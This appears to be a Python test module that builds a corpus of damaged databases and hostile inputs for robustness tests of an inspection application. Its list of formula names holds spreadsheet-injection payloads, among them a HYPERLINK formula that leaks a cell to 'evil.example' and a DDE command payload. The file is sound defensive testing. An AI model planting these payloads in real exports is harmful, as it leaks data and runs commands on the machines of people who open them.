"""The corpus of damaged databases and hostile inputs (issue #12, points 10–15), built on demand.

Nothing here is committed as a binary: every damaged file is made from a healthy data folder by
the functions below, in the test's ``tmp_path``, so the corpus always matches the current schema.
``python -m tests.hostile.corpus OUT`` writes the whole corpus into OUT for trying by hand.

Damaged databases (each function takes a healthy data folder made by ``healthy_data_folder`` and
damages its ``inspector.db`` in place): a page overwritten with garbage, the file cut in half, the
file emptied, a text file in its place, a folder in its place, a symlink in its place. Hostile
inputs: names that are spreadsheet formulas, names with control characters, a 10 MB name, a
sparse 4 GB ".jpg", and the special files a user can name (``/dev/zero``, ``/dev/full``).
"""

from __future__ import annotations

import os
import shutil
import sqlite3
import sys
from collections.abc import Callable
from pathlib import Path

from inspector.context import open_context
from inspector.domain.registry import RegistryKind
from inspector.media.synthetic import scene_photo

DATABASE = "inspector.db"
PASSWORD = "secret-pass"
UNITS = 300  # enough rows for the units table to span many pages

# Names a unit, a staff member or an item could be given to attack whoever opens the export.
FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/c calc'!A1",
)
CONTROL_NAMES = ("第一\x00车队", "车队\x07响铃", "escape\x1b[31m红", "删除\x7f键")
HUGE_NAME = "长" * (10 * 1024 * 1024 // 3)  # 10 MB of UTF-8
SPARSE_PHOTO_BYTES = 4 * 1024**3


def healthy_data_folder(folder: Path) -> Path:
    """A data folder with an administrator, ``UNITS`` units and a stored reference photo."""
    context = open_context(folder)
    try:
        admin, _ = context.users.create_first_admin("admin", "管理员", PASSWORD)
        for index in range(UNITS):
            context.registry.add(admin, RegistryKind.UNITS, {"code": f"D{index:03d}", "name": f"第{index}车队"})
        photo = folder / "reference.jpg"
        photo.write_bytes(scene_photo(1, "参考照片"))
        context.photos.add_reference_photo(admin, photo)
        photo.unlink()
    finally:
        context.close()  # the last connection checkpoints the WAL into the file
    return folder


def _page_size_and_root(database: Path, table: str) -> tuple[int, int]:
    conn = sqlite3.connect(str(database))
    try:
        page_size = conn.execute("PRAGMA page_size").fetchone()[0]
        root = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", [table]).fetchone()[0]
        return int(page_size), int(root)
    finally:
        conn.close()


def corrupt_page(folder: Path, table: str = "units") -> Path:
    """Overwrite the root page of ``table`` with garbage (a bad sector, a cut copy)."""
    database = folder / DATABASE
    page_size, root = _page_size_and_root(database, table)
    with database.open("r+b") as handle:
        handle.seek((root - 1) * page_size)
        handle.write(bytes((index * 37 + 11) % 256 for index in range(page_size)))
    return database


def truncate_half(folder: Path) -> Path:
    """Cut the file to half its length (an interrupted copy)."""
    database = folder / DATABASE
    size = database.stat().st_size
    with database.open("r+b") as handle:
        handle.truncate(size // 2)
    return database


def empty_file(folder: Path) -> Path:
    """``: > inspector.db`` with the photos still beside it."""
    database = folder / DATABASE
    database.write_bytes(b"")
    return database


def text_file(folder: Path) -> Path:
    """A CSV saved over the database."""
    database = folder / DATABASE
    database.write_text("编码,名称\nD01,第一车队\n", encoding="utf-8")
    return database


def folder_instead(folder: Path) -> Path:
    """A folder where the database file should be."""
    database = folder / DATABASE
    database.unlink()
    database.mkdir()
    (database / "note.txt").write_text("not a database", encoding="utf-8")
    return database


def symlink_instead(folder: Path) -> Path:
    """The database moved elsewhere and a link left in its place."""
    database = folder / DATABASE
    elsewhere = folder.parent / f"{folder.name}-elsewhere.db"
    shutil.move(str(database), elsewhere)
    database.symlink_to(elsewhere)
    return database


DAMAGES: dict[str, Callable[[Path], Path]] = {
    "corrupt-page": corrupt_page,
    "truncated": truncate_half,
    "emptied": empty_file,
    "text-file": text_file,
    "folder": folder_instead,
    "symlink": symlink_instead,
}


def sparse_photo(path: Path, size: int = SPARSE_PHOTO_BYTES) -> Path:
    """A ".jpg" of ``size`` bytes that starts like a JPEG and takes no disk space (sparse)."""
    with path.open("wb") as handle:
        handle.write(scene_photo(2)[:1024])
        handle.truncate(size)
    return path


def registry_csv(path: Path, names: tuple[str, ...]) -> Path:
    """A units CSV whose names are ``names`` (codes H00, H01, …)."""
    lines = ["code,name"] + [f'H{index:02d},"{name.replace(chr(34), chr(34) * 2)}"' for index, name in enumerate(names)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8", newline="")
    return path


def build(out: Path) -> list[Path]:
    """The whole corpus under ``out``: one damaged data folder per kind, and the hostile inputs."""
    out.mkdir(parents=True, exist_ok=True)
    made = []
    for name, damage in DAMAGES.items():
        made.append(damage(healthy_data_folder(out / name)))
    data_dir_file = out / "data-dir-is-a-file"
    data_dir_file.write_text("a file where the data folder should be\n", encoding="utf-8")
    made.append(data_dir_file)
    made.append(registry_csv(out / "units-formulas.csv", FORMULA_NAMES))
    made.append(registry_csv(out / "units-control-characters.csv", CONTROL_NAMES))
    made.append(registry_csv(out / "units-huge-name.csv", (HUGE_NAME,)))
    made.append(sparse_photo(out / "sparse-4gb.jpg"))
    return made


if __name__ == "__main__":
    os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
    for path in build(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")):
        print(path)
